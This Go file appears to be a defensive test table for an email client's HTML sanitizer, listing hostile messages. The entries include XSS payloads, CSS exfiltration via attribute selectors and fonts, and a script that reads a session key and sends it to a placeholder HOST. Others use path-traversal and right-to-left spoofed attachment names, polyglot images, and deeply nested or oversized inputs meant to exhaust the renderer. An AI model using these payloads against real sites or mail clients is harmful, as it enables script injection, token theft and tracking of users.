package browser

import (
	"fmt"
	"strings"
)

// hostileMail is the table.
func hostileMail() []hostile {
	rows := []hostile{
		{name: "script", html: `<script>harm(); parent.harm?.(); top.harm?.()</script><p>x</p>`},
		{name: "script from elsewhere", html: `<script src="http://HOST/a.js"></script>`},
		{name: "module", html: `<script type="module" src="http://HOST/m.js"></script>`},
		{name: "script in svg", html: `<svg xmlns="http://www.w3.org/2000/svg"><script>harm()</script><script href="http://HOST/s.js"></script></svg>`},
		{name: "script behind a title", html: `<title></title><script>harm()</script></title>`},
		{name: "script in noscript", html: `<noscript><p title="</noscript><img src=x onerror=harm()>"></noscript>`},
		{name: "script in a template", html: `<template><script>harm()</script></template><div><template shadowrootmode="open"><img src="http://HOST/shadow.png"></template></div>`},
		{name: "nested script", html: `<scr<script>ipt>harm()</scr</script>ipt><script>harm()</script >`},
		{name: "onerror", html: `<img src="x:y" onerror="harm(); parent.parent.harm?.()">`},
		{name: "onload", html: `<body onload="harm()"><svg onload="harm()"><image href="http://HOST/i.png" onload="harm()"></image></svg>`},
		{name: "onfocus", html: `<input autofocus onfocus="harm()"><a autofocus href="#" onfocus="harm()">x</a>`},
		{name: "ontoggle", html: `<details open ontoggle="harm()"><summary>x</summary></details>`},
		{name: "animation", html: `<style>@keyframes a { to { color: red } } p { animation: a 0.01s }</style><p onanimationstart="harm()" onanimationend="harm()">x</p>`},
		{name: "marquee", html: `<marquee onstart="harm()" loop=1 onfinish="harm()">x</marquee>`},
		{name: "media", html: `<video autoplay poster="http://HOST/p.png" onloadstart="harm()"><source src="http://HOST/v.mp4" onerror="harm()"></video><audio src="http://HOST/a.mp3" autoplay></audio>`},
		{name: "picture", html: `<img src="http://HOST/t.gif"><img srcset="http://HOST/s.png 1x"><picture><source srcset="http://HOST/q.png"><img></picture>`},
		{name: "picture by any other scheme", html: `<img src="//HOST/r.png"><img src="  http://HOST/u.png"><img src="ht&#9;tp://HOST/w.png"><img lowsrc="http://HOST/l.png" dynsrc="http://HOST/d.png">`},
		{name: "background", html: `<body background="http://HOST/b.png"><table background="http://HOST/tb.png"><tr><td background="http://HOST/td.png">x</table>`},
		{name: "style sheet from elsewhere", html: `<link rel="stylesheet" href="http://HOST/a.css"><style>@import url("http://HOST/b.css"); @import "http://HOST/c.css";</style>`},
		{name: "CSS that tells", html: `<style>body { background: url(http://HOST/css.png) } p::before { content: url("http://HOST/c.png") } li { list-style: url(http://HOST/l.png) } * { cursor: url(http://HOST/x.cur), auto; border-image: url(http://HOST/bi.png) 1; mask: url(http://HOST/mask.svg#m); filter: url(http://HOST/f.svg#f) }</style><p>x<ul><li>y</ul>`},
		{name: "CSS that reads attributes", html: `<style>input[value^="a"] { background: url(http://HOST/a) } a[href*="t"] { background-image: image-set(url(http://HOST/t.png) 1x) }</style><input value="abc"><a href="https://t.example">x</a>`},
		{name: "CSS that reads letters", html: `<style>@font-face { font-family: f; src: url(http://HOST/f.woff2); unicode-range: U+41 } p { font-family: f }</style><p>A</p>`},
		{name: "style attribute", html: `<p style="background-image: url('http://HOST/s.png'); width: expression(harm()); -moz-binding: url(http://HOST/x.xml#x); behavior: url(http://HOST/h.htc)">x</p>`},
		{name: "CSS that covers everything", html: `<style>html, body, div { position: fixed !important; inset: -9999px !important; z-index: 2147483647 !important; background: red }</style><div>x</div><div style="position:fixed;top:0;left:0;width:100vw;height:100vh">y</div>`},
		{name: "meta refresh", html: `<meta http-equiv="refresh" content="0; url=http://HOST/refresh">`},
		{name: "meta refresh to a script", html: `<meta http-equiv="refresh" content="0;url=javascript:harm()"><meta http-equiv="refresh" content="0;url=data:text/html,<script>top.harm()</script>">`},
		{name: "policy of its own", html: `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; script-src * 'unsafe-inline'"><script>harm()</script><img src="http://HOST/csp.png">`},
		{name: "policy that reports", html: `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri http://HOST/report"><img src="http://HOST/r.png">`},
		{name: "cookies and headers", html: `<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="X-UA-Compatible" content="IE=7"><meta name="referrer" content="unsafe-url">`},
		{name: "base", html: `<base href="http://HOST/" target="_top"><img src="base.png"><a href="x">x</a>`},
		{name: "frames", html: `<iframe src="http://HOST/f.html"></iframe><iframe srcdoc="<script>top.harm()</script><img src=http://HOST/fd.png>"></iframe><iframe src="javascript:top.harm()"></iframe><iframe src="data:text/html,<script>top.harm()</script>"></iframe>`},
		{name: "frameset", html: `<frameset onload="harm()"><frame src="http://HOST/fs.html"></frameset>`},
		{name: "objects", html: `<object data="http://HOST/o.swf" type="text/html"></object><embed src="http://HOST/e.html"><applet code="x" archive="http://HOST/a.jar"></applet><object data="data:text/html,<script>top.harm()</script>"></object>`},
		{name: "form that sends itself", html: `<form id="f" action="http://HOST/form" method="post"><input name="a" value="b" autofocus onfocus="this.form.submit()"></form><script>f.submit()</script>`},
		{name: "form over the page", html: `<form action="javascript:top.harm()"><button style="position:fixed;inset:0" autofocus formaction="http://HOST/x">Sign in</button></form>`},
		{name: "javascript links", html: `<a href="javascript:harm()" id="a">x</a><a href="JaVaScRiPt:harm()">y</a><a href="java&#10;script:harm()">z</a><a href=" &#1;javascript:harm()">w</a><script>a.click()</script>`},
		{name: "data links", html: `<a href="data:text/html,<script>alert(1)</script>" target="_top">x</a><a href="vbscript:msgbox(1)">y</a><a href="file:///etc/passwd">z</a><a href="blob:http://HOST/x">b</a>`},
		{name: "links that tell", html: `<link rel="prefetch" href="http://HOST/pf"><link rel="dns-prefetch" href="//HOST"><link rel="preconnect" href="http://HOST"><link rel="preload" as="image" href="http://HOST/pl.png"><link rel="icon" href="http://HOST/i.ico"><link rel="modulepreload" href="http://HOST/mp.js"><link rel="manifest" href="http://HOST/m.json"><a ping="http://HOST/ping" href="https://x.example">x</a>`},
		{name: "speculation", html: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://HOST/spec"]}]}</script>`},
		{name: "svg", html: `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://HOST/x.png"></image><use href="http://HOST/u.svg#a"></use><foreignObject><img src="http://HOST/fo.png" onerror="harm()"></foreignObject><feImage href="http://HOST/fe.png"></feImage><a xlink:href="javascript:harm()"><text>x</text></a></svg>`},
		{name: "svg that animates a link", html: `<svg><a><animate attributeName="href" values="javascript:harm()" begin="0s" onbegin="harm()"></animate><text y="20">x</text></a><set attributeName="onmouseover" to="harm()"></set></svg>`},
		{name: "svg style", html: `<svg><style>@import "http://HOST/svg.css"; rect { fill: url(http://HOST/g.svg#g) }</style><rect width="9" height="9"></rect></svg>`},
		{name: "mathml", html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=harm()&gt;"></table></mtext><maction actiontype="statusline#http://x" xlink:href="javascript:harm()">x</maction></math>`},
		{name: "mutation", html: `<svg></p><style><a id="</style><img src=1 onerror=harm()>">`},
		{name: "mutation by a comment", html: `<!--><img src=x onerror=harm()>--><![CDATA[<img src=x onerror=harm()>]]><?xml-stylesheet href="http://HOST/x.xsl"?>`},
		{name: "names of the page's own", html: `<form name="body"><input name="innerHTML"></form><img name="querySelector"><a id="top" name="parent"></a><mk-console></mk-console><mk-message></mk-message>`},
		{name: "custom elements and slots", html: `<mk-toasts></mk-toasts><mk-dialog></mk-dialog><slot onslotchange="harm()"></slot><portal src="http://HOST/portal"></portal><fencedframe src="http://HOST/ff"></fencedframe>`},
		{name: "window and opener", html: `<a href="https://x.example" target="_top" rel="opener">x</a><a target="_parent" href="https://x.example">y</a><script>window.open("http://HOST/open"); top.location = "http://HOST/top"; alert(1); confirm(2); prompt(3); print()</script>`},
		{name: "requests", html: `<script>fetch("http://HOST/f"); new Image().src = "http://HOST/i"; navigator.sendBeacon("http://HOST/b"); new WebSocket("ws://HOST/w"); new EventSource("http://HOST/e"); fetch("/v1/me", {headers: {Authorization: "Bearer " + sessionStorage["mailkin.key"]}}).then(r => r.text()).then(t => fetch("http://HOST/" + t))</script>`},
		{name: "popover and dialog", html: `<dialog open>Sign in again: <input></dialog><div popover="manual" ontoggle="harm()">x</div><button popovertarget="p" autofocus>y</button>`},
		{name: "no tag is closed", html: `<p><b><i><table><tr><td><a href="https://x.example"><div><img src="http://HOST/n.png"` + strings.Repeat("<div>", 200)},
		{name: "nested ten thousand deep", html: strings.Repeat("<div><blockquote><b>", 10_000) + "x", busy: true},
		{name: "ends that close nothing", html: strings.Repeat("<div></q>", 5_000) + "x", busy: true},
		{name: "ends in comments", html: strings.Repeat("<div><!-- </div> -->", 5_000) + "x", busy: true},
		{name: "ends in attributes", html: strings.Repeat(`<div title="</div>">`, 5_000) + "x", busy: true},
		{name: "lists in lists without an end", html: strings.Repeat("<dd><li>", 5_000) + "x", busy: true},
		{name: "letters that go on in every paragraph", html: "<p>" + fonts(200) + strings.Repeat("<p>x", 1_000),
			busy: true},
		{name: "letters that go on, and seem to end", html: "<p>" + strings.ReplaceAll(fonts(200), ">",
			` t="</font>">`) + strings.Repeat("<p>x", 1_000), busy: true},
		{name: "letters that go on, after much text", html: strings.Repeat("x ", 200_000) + "<table><p>" + fonts(200) +
			strings.Repeat("<p>x", 1_000), busy: true},
		{name: "link cut inside a letter", html: `<a href="https://x.example/` + strings.Repeat("x",
			7_999-len("https://x.example/")) + `😀">x</a>`},
		{name: "one megabyte", html: "<table>" + strings.Repeat(
			`<tr><td style="padding:4px">A row of a very long table that goes on and on</td><td><a href="https://x.example/1">link</a></td></tr>`, 7_000) + "</table>"},
		{name: "one word of a megabyte", html: "<p>" + strings.Repeat("x", 900_000)},
		{name: "many pictures tags", html: strings.Repeat("<img", 100_000)},
		{name: "attributes without end", html: `<p ` +
			strings.Repeat(`onclick="harm()" style="background:url(http://HOST/a)" `, 3_000) + `>x`},
		{name: "UTF-7", html: `+ADw-script+AD4-harm()+ADw-/script+AD4-`, head: "X-Note: utf-7\n"},
		{name: "overlong and broken characters", html: "\xc0\xbcscript\xc0\xbeharm()\xc0\xbc/script\xc0\xbe \xff\xfe " +
			"<p>\xed\xa0\x80</p>"},
	}
	return append(rows, hostileText()...)
}

// fonts are elements that stay open, each unlike the others.
func fonts(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "<font a%d>", i)
	}
	return b.String()
}

// hostileText is mail whose harm is outside its HTML: names, subjects, attachments, text.
func hostileText() []hostile {
	const markup = `<img src=http://HOST/h.png onerror=harm()><script>harm()</script>`
	mail := func(header, body string) string {
		return "To: wren@mailkin.localhost\nMessage-ID: <" + fmt.Sprint(len(header)*131+len(body)) +
			"@text.example>\nMIME-Version: 1.0\n" + header + "\n" + body + "\n"
	}
	file := func(name, kind, body string) string {
		return mail("From: eve@example.com\nSubject: file\nContent-Type: multipart/mixed; boundary=b\n",
			"--b\nContent-Type: text/plain\n\nx\n--b\nContent-Type: "+kind+"\nContent-Disposition: attachment; "+
				"filename=\""+name+"\"\n\n"+body+"\n--b--")
	}
	return []hostile{
		{name: "markup in the subject", raw: mail("From: eve@example.com\nSubject: "+markup+"\n", "x")},
		{name: "markup in the name", raw: mail(`From: "`+markup+`" <eve@example.com>`+"\nSubject: name\n", "x")},
		{name: "markup in the address", raw: mail("From: \"<script>harm()</script>\"@example.com\nSubject: address\n",
			"x")},
		{name: "templates", raw: mail("From: ${harm()} <eve@example.com>\nSubject: {{harm()}} ${harm()} <%= harm() %>\n", "${harm()} {{constructor.constructor('harm()')()}}")},
		{name: "direction turned", raw: mail("From: =?utf-8?Q?=E2=80=AEmoc.knab=E2=80=AC?= "+
			"<eve@example.com>\nSubject: =?utf-8?Q?invoice_=E2=80=AEfdp.exe_=E2=81=A6x=E2=81=A9?=\n",
			"\u202eabc\u202c")},
		{name: "letters that cannot be seen", raw: mail("From: Bank\u200b\u2060 <eve@example.com>\nSubject: "+
			"a\u200b\u00ad\ufeffb\U000e0041\U000e0042\n", "x\u200b")},
		{name: "letters that pile up", raw: mail("From: e\u0301\u0302 <eve@example.com>\nSubject: Z"+
			strings.Repeat("\u0300\u0315\u0338", 40)+"\n", "z"+strings.Repeat("\u0334", 2000))},
		{name: "controls in the subject", raw: mail("From: eve@example.com\nSubject: "+
			"=?utf-8?Q?a=00b=1B[31mc=07=08=0D=0Ad?=\n", "x")},
		{name: "subject of 100 kB", raw: mail("From: eve@example.com\nSubject: "+strings.Repeat("long ", 20_000)+"\n",
			"x")},
		{name: "file that is a page", raw: file("a.html", "text/html", "<script>top.harm()</script><img "+
			"src=http://HOST/att.png>")},
		{name: "file with a turned name", raw: file("invoice\u202efdp.exe", "application/pdf", "x")},
		{name: "file with a path", raw: file(`../../etc/passwd<img src=x onerror=harm()>`, "image/svg+xml",
			`<svg xmlns="http://www.w3.org/2000/svg" onload="harm()"/>`)},
		{name: "picture that is svg", raw: mail("From: eve@example.com\nSubject: cid\nContent-Type: "+
			"multipart/related; boundary=b\n", "--b\nContent-Type: text/html\n\n<img src=\"cid:x\"><object "+
			"data=\"cid:x\"></object><iframe src=\"cid:x\"></iframe>\n--b\nContent-Type: image/svg+xml\nContent-ID: "+
			"<x>\n\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>harm()</script><image "+
			"href=\"http://HOST/cid.png\"/></svg>\n--b--")},
		{name: "picture that is a page", raw: file("p.png", "image/png", "<html><script>top.harm()</script><img "+
			"src=http://HOST/p.png>")},
		{name: "picture that is svg by another name", raw: file("q.png", "image/png",
			`<svg xmlns="http://www.w3.org/2000/svg" onload="harm()"><image href="http://HOST/q.png"/></svg>`)},
		{name: "picture with a script behind it", raw: file("g.gif", "image/gif", "GIF89a/*\x01\x00\x01\x00*/=1;"+
			"<script>harm()</script>")},
		{name: "picture of a thousand million pixels", raw: file("huge.gif", "image/gif",
			"GIF89a\xff\x7f\xff\x7f"+strings.Repeat("\x21", 40))},
		{name: "data of an order", raw: mail("From: shop@example.com\nSubject: Your order\nContent-Type: text/html\n",
			`<script type="application/ld+json">{"@context":"http://schema.org","@type":"ParcelDelivery",`+
				`"trackingNumber":"1Z999AA10123456784<img src=http://HOST/ld.png onerror=harm()>","trackingUrl":`+
				`"javascript:harm()","carrier":{"@type":"Organization","name":"`+"\u202e"+`<script>harm()<\/script>",`+
				`"url":"http://HOST/carrier"}}</script><script type="application/ld+json">{"@context":`+
				`"http://schema.org","@type":"Order","orderNumber":"<b onclick=harm()>4711","merchant":{"name":`+
				`"<iframe src=http://HOST/m.html>"},"price":"9.99","priceCurrency":"EUR"}</script><p>Thank you.`)},
		{name: "text that looks like markup", raw: mail("From: eve@example.com\nSubject: text\n",
			markup+"\njavascript:harm()\nhttp://HOST/link")},
		{name: "header with markup", raw: mail("From: eve@example.com\nSubject: header\nX-Evil: "+markup+"\n", "x")},
		{name: "list of ten thousand recipients", raw: mail("From: eve@example.com\nSubject: many\nCc: "+
			strings.TrimSuffix(strings.Repeat("a@b.example,\n ", 5_000), ",\n ")+"\n", "x")},
	}
}
